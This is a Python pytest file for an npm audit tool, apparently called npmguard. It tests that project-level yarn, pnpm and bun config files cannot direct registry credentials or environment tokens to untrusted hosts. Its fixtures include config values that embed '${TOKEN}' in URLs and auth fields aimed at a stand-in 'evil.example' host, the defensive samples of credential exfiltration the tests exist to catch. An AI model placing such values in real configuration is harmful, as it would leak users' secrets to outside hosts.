"""The registries and credentials of other managers, and what a project's files may not decide."""

from base64 import b64encode
from pathlib import Path
from typing import Any

import pytest

from npmguard import audit
from npmguard.origins import default_registry
from npmguard.project import manager as reader
from npmguard.project import npmrc, registries
from npmguard.settings import Options

FILES = {"yarn": ".yarnrc", "yarn-berry": ".yarnrc.yml", "pnpm": "pnpm-workspace.yaml", "bun": "bunfig.toml"}
CORP = "https://npm.corp.example/"
EVIL = "https://evil.example/"
BASIC = "Basic " + b64encode(b"me:secret").decode()


def load(
    here: Path, manager: str, project: str = "", user: str = "", npm: tuple[str, str] = ("", ""), **env: str
) -> npmrc.NpmConfig:
    """The settings of a project with that file, and that file of the user's; `npm`: both their .npmrc."""
    home, folder = here / "home", here / "project"
    for place, text, rc in ((folder, project, npm[0]), (home, user, npm[1])):
        place.mkdir(exist_ok=True)
        name = FILES[manager]
        (place / ("." + name if manager == "bun" and place is home else name)).write_text(text)
        (place / ".npmrc").write_text(rc)
    everything = {"HOME": str(home), "NPM_CONFIG_GLOBALCONFIG": str(here / "none"), **env}
    settings = reader.config(str(folder), manager, str(folder))
    beside = registries.beside(manager, settings, everything)
    return npmrc.load(str(folder), environ=everything, beside=beside)


def test_yarn_classic(here: Path) -> None:
    text = f'registry "{CORP}"\n"@corp:registry" "https://scope.example"\n'
    found = load(here, "yarn", text)
    assert found.registries == {"": CORP, "@corp": "https://scope.example/"}
    # yarn takes the word of an .npmrc first, be it the user's
    assert load(here, "yarn", text, npm=(f"registry={EVIL}", "")).registry == EVIL
    assert load(here, "yarn", text, npm=("", f"registry={EVIL}")).registry == EVIL
    assert load(here, "yarn", "", text).registry == CORP


def test_yarn_berry(here: Path) -> None:
    found = load(
        here,
        "yarn-berry",
        f"""
npmRegistryServer: "{CORP}"
npmAuthToken: made-up-1
npmScopes:
  own:
    npmRegistryServer: https://own.example/api
    npmAuthToken: made-up-2
  same:
    npmAuthIdent: "me:secret"
npmRegistries:
  "//other.example/npm":
    npmAuthToken: made-up-3
""",
        npm=(f"registry={EVIL}", ""),
    )
    assert found.registries == {"": CORP, "@own": "https://own.example/api/"}
    assert found.credentials_for("https://own.example/api/@own/x") == "Bearer made-up-2"
    assert found.credentials_for("https://own.example/x") is None
    assert found.credentials_for("https://other.example/npm/x") == "Bearer made-up-3"
    assert found.credentials_for(CORP + "x") == "Bearer made-up-1"
    assert found.ignored == []


def test_an_identity_of_yarn_berry_is_basic(here: Path) -> None:
    text = f'npmRegistryServer: "{CORP}"\nnpmAuthIdent: "{{0}}"\n'
    for ident in ("me:secret", b64encode(b"me:secret").decode()):
        found = load(here, "yarn-berry", text.format(ident))
        assert found.credentials_for(CORP + "x") == BASIC


def test_pnpm(here: Path) -> None:
    text = f"packages: [.]\nregistries:\n  default: {CORP}\n  '@own': https://own.example\n  x: y\n"
    found = load(here, "pnpm", text, npm=(f"registry={EVIL}", ""))
    assert found.registries == {"": CORP, "@own": "https://own.example/"}
    assert load(here, "pnpm", f"registry: {CORP}\n").registry == CORP


@pytest.mark.parametrize(
    ("text", "credentials"),
    [
        (f'registry = "{CORP}"', None),
        (f'registry = {{ url = "{CORP}", token = "made-up" }}', "Bearer made-up"),
        (f'registry = {{ url = "{CORP}", username = "me", password = "secret" }}', BASIC),
        ('registry = "https://me:secret@npm.corp.example/"', BASIC),
        (f'registry = {{ url = "{CORP}", token = 1 }}', None),
    ],
)
def test_bun(here: Path, text: str, credentials: str | None) -> None:
    found = load(here, "bun", f"[install]\n{text}\n", npm=(f"registry={EVIL}", ""))
    assert found.registry == CORP
    assert found.credentials_for(CORP + "x") == credentials


def test_the_scopes_of_bun(here: Path) -> None:
    one, two = "https://one.example", '{ url = "https://two.example/", token = "t" }'
    text = f'[install.scopes]\none = "{one}"\n"@two" = {two}\n'
    found = load(here, "bun", text)
    assert found.registries == {"@one": "https://one.example/", "@two": "https://two.example/"}
    assert found.credentials_for("https://two.example/x") == "Bearer t"


WITH_TOKEN = {
    "yarn-berry": 'npmRegistryServer: "{url}"\nnpmAuthToken: "${{TOKEN}}"\n',
    "bun": '[install]\nregistry = {{ url = "{url}", token = "$TOKEN" }}\n',
}
TOKENS = [
    *WITH_TOKEN.items(),
    ("yarn-berry", 'npmRegistries:\n  "{url}":\n    npmAuthToken: "${{TOKEN:-x}}"\n'),
    ("yarn-berry", 'npmRegistryServer: "{url}"\nnpmAuthIdent: "me:${{TOKEN}}"\n'),
    ("yarn-berry", 'npmScopes:\n  a:\n    npmRegistryServer: "{url}"\n    npmAuthToken: "x${{TOKEN}}"\n'),
    ("bun", '[install]\nregistry = {{ url = "{url}", username = "me", password = "${{TOKEN}}" }}\n'),
    ("bun", '[install.scopes]\na = {{ url = "{url}", token = "${{TOKEN}}" }}\n'),
]


@pytest.mark.parametrize(("manager", "text"), TOKENS)
def test_a_project_cannot_send_the_environment_away(here: Path, manager: str, text: str) -> None:
    found = load(here, manager, text.format(url=EVIL), TOKEN="made-up-secret")
    assert found.credentials_for(EVIL + "x") is None
    assert any("evil.example" in line and FILES[manager] in line for line in found.ignored)


@pytest.mark.parametrize(("manager", "text"), TOKENS)
def test_it_goes_to_a_host_that_the_user_knows(here: Path, manager: str, text: str) -> None:
    known = ("", f"@x:registry={CORP}")
    found = load(here, manager, text.format(url=CORP), npm=known, TOKEN="made-up-secret")
    assert found.credentials_for(CORP + "x")
    assert found.credentials_for(EVIL + "x") is None


@pytest.mark.parametrize(("manager", "text"), TOKENS)
def test_a_file_of_the_user_s_is_trusted(here: Path, manager: str, text: str) -> None:
    found = load(here, manager, "", text.format(url=CORP), TOKEN="made-up-secret")
    assert found.credentials_for(CORP + "x")
    assert found.ignored == []


@pytest.mark.parametrize(
    ("manager", "text"),
    [
        ("yarn", 'registry "https://evil.example/${TOKEN}"\n'),
        ("yarn-berry", 'npmRegistryServer: "https://evil.example/${TOKEN}"\n'),
        ("pnpm", 'registry: "https://evil.example/${TOKEN}"\n'),
        ("bun", '[install]\nregistry = "https://evil.example/$TOKEN"\n'),
        ("bun", '[install]\nregistry = "https://evil.example/${TOKEN}/x"\n'),
    ],
)
def test_a_project_writes_no_variable_into_a_url(here: Path, manager: str, text: str) -> None:
    found = load(here, manager, text, TOKEN="made-up-secret")
    assert found.registry == default_registry()
    assert any("mixes a variable into a URL" in line for line in found.ignored)


def test_a_name_and_password_in_a_url_are_the_environment_s_too(here: Path) -> None:
    text = '[install]\nregistry = "https://me:$TOKEN@evil.example/"\n'
    found = load(here, "bun", text, TOKEN="made-up-secret")
    assert found.credentials_for(EVIL + "x") is None
    assert found.ignored


def test_a_project_s_registry_gets_no_token_of_the_user_s(here: Path) -> None:
    for manager, text in WITH_TOKEN.items():
        project = {"yarn-berry": f"npmRegistryServer: {EVIL}\n", "bun": f'[install]\nregistry = "{EVIL}"\n'}
        found = load(here, manager, project[manager], text.format(url=CORP), TOKEN="made-up-secret")
        assert found.registry == EVIL
        assert found.credentials_for(EVIL + "x") is None
        assert found.credentials_for(CORP + "x") == "Bearer made-up-secret"


def test_a_token_of_yarn_s_without_a_registry_is_for_the_default_one(here: Path) -> None:
    found = load(here, "yarn-berry", f"npmRegistryServer: {EVIL}\n", "npmAuthToken: made-up\n")
    assert found.credentials_for(EVIL + "x") is None
    assert found.credentials_for(default_registry() + "x") == "Bearer made-up"


def test_what_yarn_says_else(here: Path) -> None:
    text = 'npmRegistryServer: "${URL:-https://npm.corp.example}"\n'
    assert load(here, "yarn-berry", text).registry == CORP
    assert load(here, "yarn-berry", text, URL="").registry == CORP
    assert load(here, "yarn-berry", text, URL="https://m.example").registry == "https://m.example/"


@pytest.mark.parametrize("manager", sorted(FILES))
def test_settings_of_any_shape_are_borne(here: Path, manager: str) -> None:
    odd: tuple[Any, ...] = (None, 1, "x", [], ["x"], {}, {"a": 1}, {"a": {"b": 1}}, True, {"url": 3})
    keys = ("registry", "npmRegistryServer", "npmScopes", "npmRegistries", "npmAuthToken", "registries")
    for value in odd:
        for settings in (dict.fromkeys(keys, value), {"install": value}, {"install": {"registry": value}}):
            found = registries.beside(manager, settings, {"HOME": str(here)})
            npmrc.load(str(here), environ={"HOME": str(here)}, beside=found)


def test_a_broken_file_of_the_user_s_is_no_reason_to_stop(here: Path) -> None:
    for manager, text in (("yarn-berry", "a: [\n"), ("bun", "= 1\n")):
        assert load(here, manager, "", text).registry == default_registry()


@pytest.mark.parametrize(("named", "foreign"), [(CORP, []), (EVIL, ["foreign-host"])])
def test_an_audit_goes_by_them(here: Path, named: str, foreign: list[str]) -> None:
    (here / "package.json").write_text('{"name": "x", "dependencies": {"a": "1.0.0"}}')
    (here / "bunfig.toml").write_text(f'[install]\nregistry = "{named}"\n')
    workspaces = '"workspaces": {"": {"name": "x", "dependencies": {"a": "1.0.0"}}}'
    entry = f'"a": ["a@1.0.0", "{CORP}a/-/a-1.0.0.tgz", {{}}, "sha512-AAAA"]'
    (here / "bun.lock").write_text(f'{{"lockfileVersion": 1, {workspaces}, "packages": {{{entry}}}}}')
    report = audit.check(["."], Options(only=("foreign-host",), offline=True))
    assert [finding.rule for finding in report.projects[0].findings] == foreign
